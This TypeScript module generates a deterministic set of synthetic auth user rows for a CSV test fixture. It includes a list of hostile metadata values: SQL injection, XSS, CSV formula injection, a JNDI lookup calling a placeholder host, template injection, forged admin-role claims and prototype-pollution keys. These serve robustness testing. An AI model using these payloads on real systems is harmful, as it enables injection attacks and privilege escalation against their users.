import { createHash } from 'node:crypto';

/** A row of `auth.users` as it stands in examples/auth-users.csv. */
export interface ExampleUser {
  id: string;
  aud: string;
  role: string;
  email: string | null;
  phone: string | null;
  email_confirmed_at: string | null;
  phone_confirmed_at: string | null;
  last_sign_in_at: string | null;
  raw_app_meta_data: unknown;
  raw_user_meta_data: unknown;
  is_sso_user: boolean;
  is_anonymous: boolean;
  banned_until: string | null;
  deleted_at: string | null;
  created_at: string;
  updated_at: string;
}

type Recipe = (user: ExampleUser, number: number) => Partial<ExampleUser>;

const day = 86_400_000;
const firstDay = Date.UTC(2024, 0, 8);
const ssoProviders = ['3f0a2c1e-7b64-4d5b-9a51-5e7d0c6b8f11', 'b8d1f5a2-0c3e-4f7a-8e29-1a4c9d7e6f22'];
const domains = ['example.com', 'example.org', 'mail.example.com', 'haus.test', 'fabrik.test'];

/** Given and family names by script, so that a name is one that a person could have. */
const names: [given: string[], family: string[]][] = [
  [
    [
      'Anna',
      'Björn',
      'Chloé',
      'Dušan',
      'Élodie',
      'François',
      'Jürgen',
      'Łukasz',
      'Siobhán',
      'Zoë',
      'Nguyễn',
      'Þóra',
    ],
    [
      "O'Brien",
      'Müller',
      'García Márquez',
      'Løvås',
      'Çelik',
      'Kowalczyk',
      "D'Angelo",
      'van der Berg',
      'Đặng',
      'Ķēniņš',
    ],
  ],
  [
    ['Алексей', 'Марія', 'Ђорђе', 'Ольга'],
    ['Достоевская', 'Шевченко', 'Јовановић', 'Щербаков'],
  ],
  [
    ['Ελένη', 'Γιώργος', 'Άγγελος'],
    ['Παπαδοπούλου', 'Οικονόμου', 'Ξενάκης'],
  ],
  [
    ['محمد', 'فاطمة', 'لیلا', 'علی‌رضا'],
    ['الخوارزمي', 'بن عبد الله', 'رضایی', 'كريم'],
  ],
  [
    ['שרה', 'דוד', 'נֹעַם'],
    ['כהן', 'לוי', 'בן־גוריון'],
  ],
  [
    ['अनन्या', 'राहुल', 'लक्ष्मी'],
    ['शर्मा', 'कुमार', 'श्रीवास्तव'],
  ],
  [
    ['தமிழ்செல்வி', 'அருண்'],
    ['முருகன்', 'ராஜேந்திரன்'],
  ],
  [
    ['太郎', 'さくら', '𠮷雄'],
    ['山田', '髙橋', '渡邊'],
  ],
  [
    ['小明', '丽华'],
    ['王', '欧阳'],
  ],
  [
    ['지민', '서연'],
    ['김', '남궁'],
  ],
  [
    ['สมชาย', 'มาลี'],
    ['ใจดี', 'ศรีสุข'],
  ],
  [
    ['ქეთევანი', 'გიორგი'],
    ['მამარდაშვილი', 'კაპანაძე'],
  ],
  [
    ['Արամ', 'Անահիտ'],
    ['Խաչատրյան', 'Սարոյան'],
  ],
  [
    ['ሰላም', 'አበበ'],
    ['በቀለ', 'ተስፋዬ'],
  ],
  [
    ['Jose\u0301', 'Zoe\u0308', 'A\u030angstro\u0308m', '👩🏽‍🔧 Maya', 'Kai 🏳️‍🌈'],
    ['Mun\u0303oz', 'Nguye\u0302\u0303n', '🚀', 'Smith 👨‍👩‍👧‍👦'],
  ],
];

/** User metadata that no form would send: wrong shapes, claims to rights, markup, control and bidirectional characters. */
const hostileMetadata: unknown[] = [
  [],
  ['superadmin'],
  'just a text',
  42,
  true,
  { full_name: ['Array', 'Name'] },
  { full_name: { first: 'Nested', last: { deeper: 'Name' } } },
  { full_name: 12345 },
  { full_name: false, name: null },
  { full_name: '', name: '' },
  { full_name: '   ', name: '\t\n' },
  { platform_role: 'superadmin', role: 'service_role', is_admin: true, full_name: 'Mallory Claims' },
  {
    app_metadata: { platform_role: 'superadmin' },
    claims: { role: 'supabase_admin' },
    name: 'Mallory Nested',
  },
  {
    organization_id: '000000000',
    current_organization_id: '000000000',
    permissions: ['*'],
    name: 'Mallory Tenant',
  },
  {
    is_active: false,
    deactivated_at: '1970-01-01T00:00:00Z',
    user_id: '00000000-0000-0000-0000-000000000000',
  },
  { full_name: "Robert'); drop table public.user_profiles; --" },
  { full_name: "' or '1'='1", name: '$$; select pg_sleep(10); $$' },
  { full_name: '<script>alert("hello")</script>' },
  { name: '<img src=x onerror=alert(1)>', avatar_url: 'javascript:alert(1)' },
  { full_name: '=cmd|"/c calc"!A1', name: '@SUM(1+1)' },
  { full_name: '{{constructor.constructor("return 1")()}}', name: '${jndi:ldap://example.test/a}' },
  { full_name: 'Line\nBreak\r\nName' },
  { full_name: 'Bell\u0007 Back\u0008space \u001b[31mRed\u001b[0m \u007f' },
  { full_name: '\u202eetaerCresU\u202c', name: '\u2066isolated\u2069' },
  { full_name: 'Zero\u200bWidth\u200d\ufeffName\u00ad' },
  { full_name: '\u200b\u200b\u200b' },
  { full_name: 'Z̸̢̛͔̖͉̥̭͍͆̓̈́̊͘a̶̡̛̯̬̭͌̃͝l̵̰̺͓̽̕g̷̢̛̙̀̾̚o̴̖͑̈́' },
  { full_name: 'admin', name: 'root' },
  { full_name: 'null', name: 'undefined' },
  { full_name: '\\u0000 is only a text here', name: 'back\\slash "quote"' },
  { full_name: '名前🏭'.repeat(1_500) },
  { __proto__polluted: true, constructor: { prototype: { is_admin: true } }, name: 'Proto Type' },
  { full_name: 'Deep', tree: JSON.parse(`${'['.repeat(100)}${']'.repeat(100)}`) as unknown },
  { full_name: 1e308, name: -0.1 },
  { FULL_NAME: 'Wrong Case', 'full name': 'Wrong Key' },
  { full_name: 'Comma, "Quoted"; Semi\tTab', email: 'someone.else@example.com' },
  { provider: 'sso:not-yours', providers: ['sso:not-yours'], full_name: 'Not SSO' },
  { full_name: '\u0041\u030a\u0301'.repeat(40) },
  { sub: '00000000-0000-0000-0000-000000000001', aal: 'aal2', name: 'Mallory Token' },
  { full_name: 'ﷺ ﷽ ㊿ ℻ Ａｄｍｉｎ' },
];

/** E-mail addresses that look alike and are different to the auth server. */
const lookAlikes = [
  'Ana.Silva@example.com',
  'ana.silva@example.com',
  'ANA.SILVA@EXAMPLE.COM',
  'anasilva@example.com',
  'ana.silva+work@example.com',
  'аna.silva@example.com',
  'ana.silva@example.org',
  '"ana silva"@example.com',
];

/** The kinds of user, and how many of each there are. */
const recipes: [count: number, recipe: Recipe][] = [
  [600, () => ({})],
  [
    40,
    ({ email }, number) => ({
      email: lookAlikes[number] ?? (number % 2 ? email?.toUpperCase() : capitalized(email)) ?? null,
    }),
  ],
  [
    70,
    (user, number) => ({
      ...withoutEmail,
      phone: phone(number),
      phone_confirmed_at: user.email_confirmed_at,
      raw_app_meta_data: provider('phone'),
      raw_user_meta_data: number % 2 ? {} : user.raw_user_meta_data,
    }),
  ],
  [
    70,
    (user, number) => ({
      // An SSO user may have the address of somebody else: the auth server keeps theirs apart.
      email: number % 10 === 0 ? 'ana.silva@example.com' : user.email,
      is_sso_user: true,
      raw_app_meta_data: provider(`sso:${ssoProviders[number % ssoProviders.length] ?? ''}`),
    }),
  ],
  [60, () => ({ ...withoutEmail, raw_app_meta_data: {}, raw_user_meta_data: {}, is_anonymous: true })],
  [
    30,
    (user, number) => ({
      banned_until: moment(Date.parse(user.created_at) + (number % 3 ? 36_500 : 30) * day),
    }),
  ],
  [
    30,
    (user, number) => ({
      deleted_at: user.updated_at,
      // Deleting softly blanks out the address: what is left is no address.
      ...(number % 2
        ? { email: digest(user.id).slice(0, 43), raw_app_meta_data: {}, raw_user_meta_data: {} }
        : {}),
    }),
  ],
  [20, () => ({ raw_user_meta_data: {} })],
  [20, (_user, number) => ({ raw_user_meta_data: null, ...(number % 2 ? { raw_app_meta_data: null } : {}) })],
  [20, () => ({ email_confirmed_at: null, last_sign_in_at: null })],
  [40, (_user, number) => ({ raw_user_meta_data: hostileMetadata[number % hostileMetadata.length] })],
];

const withoutEmail = { email: null, email_confirmed_at: null };
const digest = (text: string): string => createHash('sha256').update(text).digest('base64url');
const moment = (time: number): string => new Date(time).toISOString();
const provider = (name: string): unknown => ({ provider: name, providers: [name] });
const capitalized = (text: string | null): string | undefined =>
  text?.replace(/\b[a-z]/g, (letter) => letter.toUpperCase());

/** A number from the range that is kept for fiction: 555-0100 to 555-0199 in each area. */
const phone = (number: number): string => `1${201 + number}55501${String(number % 100).padStart(2, '0')}`;

/** A sequence of numbers from 0 to below 1 that is the same for the same seed (mulberry32). */
function randomNumbers(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

/**
 * The users of examples/auth-users.csv: always the same, in the order in which they signed up.
 *
 * @returns 1,000 rows that `auth.users` accepts
 */
export function exampleUsers(): ExampleUser[] {
  const random = randomNumbers(20_240_108);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T;
  const plainUser = (index: number): ExampleUser => {
    const [given, family] = pick(names);
    const [first, last] = [pick(given), pick(family)];
    const created = firstDay + Math.floor(random() * 900 * day);
    const signedIn = random() < 0.8 ? created + Math.floor(random() * 60 * day) : undefined;
    const hex = createHash('sha256').update(`user ${index}`).digest('hex');
    const local = `${first}.${last}`
      .normalize('NFKD')
      .toLowerCase()
      .replace(/[^a-z.]/g, '')
      .replace(/^\.|\.$/g, '');
    return {
      id: `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-a${hex.slice(17, 20)}-${hex.slice(20, 32)}`,
      aud: 'authenticated',
      role: 'authenticated',
      email: `${local || 'user'}.${index}@${pick(domains)}`,
      phone: null,
      email_confirmed_at: moment(created + 60_000),
      phone_confirmed_at: null,
      last_sign_in_at: signedIn ? moment(signedIn) : null,
      raw_app_meta_data: provider('email'),
      raw_user_meta_data: pick([
        { full_name: `${first} ${last}` },
        { full_name: `${first} ${last}` },
        { name: `${first} ${last}` },
        {
          full_name: `${first} ${last}`,
          avatar_url: `https://example.com/avatars/${index}.png`,
          locale: 'en',
        },
        { name: first, full_name: null },
      ]),
      is_sso_user: false,
      is_anonymous: false,
      banned_until: null,
      deleted_at: null,
      created_at: moment(created),
      updated_at: moment(signedIn ?? created),
    };
  };
  let index = 0;
  return recipes
    .flatMap(([count, recipe]) =>
      Array.from({ length: count }, (_, number) => {
        const user = plainUser(index++);
        return { ...user, ...recipe(user, number) };
      }),
    )
    .sort((a, b) => (a.created_at < b.created_at ? -1 : 1));
}

/**
 * Writes users as comma-separated values (RFC 4180, UTF-8): metadata as JSON, nothing at all for null.
 *
 * @param users the rows
 * @returns the text of the file, with a line of column names
 */
export function toCsv(users: readonly ExampleUser[]): string {
  const columns = Object.keys(users[0] ?? {}) as (keyof ExampleUser)[];
  const lines = users.map((user) => columns.map((column) => field(user[column], column)).join(','));
  return `${[columns.join(','), ...lines].join('\n')}\n`;
}

function field(value: unknown, column: string): string {
  if (value === null || value === undefined) return '';
  const text = typeof value === 'string' && !column.startsWith('raw_') ? value : JSON.stringify(value);
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}
